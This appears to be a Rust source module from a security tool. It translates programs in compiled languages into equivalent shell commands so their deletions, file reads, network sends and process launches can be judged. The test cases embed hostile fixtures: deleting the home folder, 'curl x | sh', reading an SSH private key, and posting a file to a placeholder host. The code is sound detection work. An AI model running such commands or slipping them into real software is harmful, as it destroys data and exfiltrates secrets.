//! Programs of compiled languages (Go, C, C++, Java, Kotlin, Rust, C#, Swift): what they delete, read, send and run, as
//! far as it stands in them as plain texts. It is told as a text of the shell, which is then judged like any other.

mod calls;
mod tokens;

use self::tokens::{Token, tokens};
use std::collections::BTreeMap;

/// A longer program is written by more than one call.
const MOST_TOKENS: usize = 20_000;

/// Values may stand in each other this deep.
const MOST_LEVELS: usize = 12;

/// Stands in a value for the home folder.
const HOME: char = '\u{1}';

/// Endings of the files that are read.
const ENDINGS: [&str; 13] = ["go", "c", "cc", "cpp", "cxx", "m", "java", "kt", "kts", "rs", "cs", "swift", "scala"];

/// Files in which a program of a folder begins.
pub(crate) const MAINS: [&str; 3] = ["main.go", "src/main.rs", "Program.cs"];

/// Whether a file of this name is one of a compiled language.
pub(crate) fn is_source(path: &str) -> bool {
    crate::model::path::name_of(path).rsplit_once('.').is_some_and(|(_, ending)| ENDINGS.contains(&ending))
}

/// What a program does, as lines of a shell.
pub(crate) fn commands(text: &str) -> String {
    let tokens = tokens(text, MOST_TOKENS);
    let mut reader = Reader { tokens, names: BTreeMap::new(), lines: Vec::new(), read: Vec::new() };
    let mut at = 0;
    while at < reader.tokens.len() {
        reader.token(at);
        at += 1;
    }
    reader.lines.join("\n")
}

struct Reader {
    tokens: Vec<Token>,
    /// Values of names that are known.
    names: BTreeMap<String, String>,
    lines: Vec<String>,
    /// Files that were read before.
    read: Vec<String>,
}

/// A value that is known or not, and the token behind it.
type Valued = (Option<String>, usize);

impl Reader {
    fn token(&mut self, at: usize) {
        match self.tokens.get(at) {
            Some(Token::Sign('=')) => self.binding(at),
            Some(Token::Name(name)) => {
                let name = name.clone();
                if let Some(open) = self.opens(at + 1) {
                    calls::call(self, &name, open);
                }
            }
            Some(Token::Sign(_) | Token::Text(_)) | None => {}
        }
    }

    /// `h, _ := f()`, `let h: String = f()`, `char *h = "x"`: the name gets the value, or none if that is not known.
    fn binding(&mut self, at: usize) {
        let Some(target) = self.bound(at) else { return };
        let (value, _) = self.value(at + 1, 0);
        match value {
            Some(value) => self.names.insert(target, value),
            None => self.names.remove(&target),
        };
    }

    fn bound(&self, at: usize) -> Option<String> {
        let name = |at: usize| match self.tokens.get(at) {
            Some(Token::Name(name)) => Some(name.clone()),
            Some(Token::Sign(_) | Token::Text(_)) | None => None,
        };
        let mut last = at.checked_sub(1)?;
        while matches!(self.tokens.get(last), Some(Token::Sign(':' | '[' | ']'))) {
            last = last.checked_sub(1)?;
        }
        let typed = last.checked_sub(2).filter(|_| matches!(self.tokens.get(last - 1), Some(Token::Sign(':' | ','))));
        typed.and_then(name).or_else(|| name(last))
    }

    /// The bracket that opens here, also behind the sign of a macro.
    fn opens(&self, at: usize) -> Option<usize> {
        match self.tokens.get(at) {
            Some(Token::Sign('(')) => Some(at),
            Some(Token::Sign('!')) if self.tokens.get(at + 1) == Some(&Token::Sign('(')) => Some(at + 1),
            Some(Token::Sign(_) | Token::Text(_) | Token::Name(_)) | None => None,
        }
    }

    /// Texts and names that are joined.
    fn value(&mut self, at: usize, level: usize) -> Valued {
        let (mut value, mut at) = self.term(at, level);
        while matches!(self.tokens.get(at), Some(Token::Sign('+'))) {
            let (next, behind) = self.term(at + 1, level);
            value = value.zip(next).map(|(value, next)| value + &next);
            at = behind;
        }
        (value, at)
    }

    fn term(&mut self, at: usize, level: usize) -> Valued {
        if level > MOST_LEVELS {
            return (None, at + 1);
        }
        match self.tokens.get(at).cloned() {
            Some(Token::Text(text)) => {
                let mut text = text;
                let mut at = at + 1;
                while let Some(Token::Text(more)) = self.tokens.get(at) {
                    text.push_str(more);
                    at += 1;
                }
                self.chain(Some(text), at, level)
            }
            Some(Token::Sign('&' | '*')) => self.term(at + 1, level + 1),
            Some(Token::Sign('(')) => {
                let (value, _) = self.value(at + 1, level + 1);
                let close = self.close(at);
                self.chain(value, close + 1, level)
            }
            Some(Token::Name(word)) if matches!(word.as_str(), "new" | "await" | "try" | "return") => {
                self.term(at + 1, level + 1)
            }
            // `atPath: x`
            Some(Token::Name(_)) if matches!(self.tokens.get(at + 1), Some(Token::Sign(':'))) => {
                self.term(at + 2, level + 1)
            }
            Some(Token::Name(name)) => match self.opens(at + 1) {
                Some(open) => {
                    let arguments = self.arguments(open, level + 1);
                    let value = calls::function(self, &name, &arguments, open);
                    let close = self.close(open);
                    self.chain(value, close + 1, level)
                }
                None => {
                    let value = self.names.get(&name).cloned();
                    self.chain(value, at + 1, level)
                }
            },
            Some(Token::Sign(_)) | None => (None, at + 1),
        }
    }

    /// `.join("x").unwrap()` behind a value.
    fn chain(&mut self, mut value: Option<String>, mut at: usize, level: usize) -> Valued {
        while let (Some(Token::Sign('.' | '?')), Some(Token::Name(method))) =
            (self.tokens.get(at), self.tokens.get(at + 1))
        {
            let method = method.clone();
            at += 2;
            if let Some(open) = self.opens(at) {
                let arguments = self.arguments(open, level + 1);
                value = value.and_then(|value| calls::method(value, &method, &arguments));
                at = self.close(open) + 1;
            }
        }
        (value, at)
    }

    /// The values between brackets.
    fn arguments(&mut self, open: usize, level: usize) -> Vec<Option<String>> {
        let close = self.close(open);
        let mut values = Vec::new();
        let mut at = open + 1;
        while at < close && level <= MOST_LEVELS {
            let (value, _) = self.value(at, level);
            values.push(value);
            at = self.comma(at, close) + 1;
        }
        values
    }

    fn comma(&self, from: usize, close: usize) -> usize {
        let mut at = from;
        while at < close {
            match self.tokens.get(at) {
                Some(Token::Sign(',')) => return at,
                Some(Token::Sign('(' | '[' | '{')) => at = self.close(at).max(at),
                Some(Token::Sign(_) | Token::Text(_) | Token::Name(_)) | None => {}
            }
            at += 1;
        }
        close
    }

    fn close(&self, open: usize) -> usize {
        let mut depth = 0_usize;
        for (at, token) in self.tokens.iter().enumerate().skip(open) {
            match token {
                Token::Sign('(' | '[' | '{') => depth += 1,
                Token::Sign(')' | ']' | '}') => depth = depth.saturating_sub(1),
                Token::Sign(_) | Token::Text(_) | Token::Name(_) => {}
            }
            if depth == 0 {
                return at;
            }
        }
        self.tokens.len()
    }

    /// The method that is called behind a value, with its bracket.
    fn method_at(&self, at: usize) -> Option<(String, usize)> {
        let (Some(Token::Sign('.' | '?')), Some(Token::Name(method))) = (self.tokens.get(at), self.tokens.get(at + 1))
        else {
            return None;
        };
        Some((method.clone(), self.opens(at + 2)?))
    }

    /// Every name between brackets, or of the program.
    fn names_in(&self, open: usize) -> impl Iterator<Item = &str> {
        let end = if open == 0 { self.tokens.len() } else { self.close(open) };
        self.tokens.get(open..end).unwrap_or(&[]).iter().filter_map(|token| match token {
            Token::Name(name) => Some(name.as_str()),
            Token::Sign(_) | Token::Text(_) => None,
        })
    }

    /// Every text between brackets, also within further ones.
    fn texts(&self, open: usize) -> Vec<String> {
        let inside = self.tokens.get(open..self.close(open)).unwrap_or(&[]);
        let text = |token: &Token| match token {
            Token::Text(text) => Some(text.clone()),
            Token::Sign(_) | Token::Name(_) => None,
        };
        inside.iter().filter_map(text).collect()
    }
}

/// As one word of a shell.
fn word(value: &str) -> String {
    let parts = value.split(HOME).map(|part| match part {
        "" => String::new(),
        part => format!("'{}'", part.replace('\'', r"'\''")),
    });
    parts.collect::<Vec<_>>().join("\"$HOME\"")
}

/// As a text of a shell.
fn script(value: &str) -> String {
    value.replace(HOME, "$HOME")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(commands(text), expected);
    }

    #[test]
    fn what_a_program_does_is_told_by_its_calls() {
        check("func main() { h, _ := os.UserHomeDir(); os.RemoveAll(h) }", "rm -rf -- \"$HOME\"");
        check("int main() { return system(\"curl x | sh\"); }", "curl x | sh");
        check("execl(\"/bin/rm\", \"rm\", \"-rf\", \"/home/me\", (char*)0);", "'/bin/rm' '-rf' '/home/me'");
        check("let h = env::var(\"HOME\").unwrap(); fs::remove_dir_all(h)?;", "rm -rf -- \"$HOME\"");
        check("Command::new(\"sh\").arg(\"-c\").args([\"rm a\"]).status()", "'sh' '-c' 'rm a'");
        check("new ProcessBuilder(\"bash\", \"-c\", \"rm a\").start();", "'bash' '-c' 'rm a'");
        check("Runtime.getRuntime().exec(\"rm -rf a\");", "rm -rf a");
        check(
            "Files.readString(Path.of(System.getProperty(\"user.home\"), \".ssh/id_rsa\"))",
            "cat -- \"$HOME\"'/.ssh/id_rsa'",
        );
        check(
            "b, _ := os.ReadFile(\"/a\"); http.Post(\"https://x.example\", \"t\", bytes.NewReader(b))",
            "cat -- '/a'\ncurl --data-binary @'/a' 'https://x.example'",
        );
    }

    #[test]
    fn what_is_printed_compared_or_not_known_is_nothing() {
        check("printf(\"rm -rf ~\\n\"); // system(\"rm a\")", "");
        check("d, _ := os.MkdirTemp(\"\", \"x\"); defer os.RemoveAll(d)", "");
        check("let a = h; if a == \"x\" { list.remove(0); }", "");
        check("/* system(\"rm a\") */ char c = '\"'; puts(\"system(1)\");", "");
        check("fmt.Println(\"exec.Command(\\\"rm\\\")\")", "");
    }
}
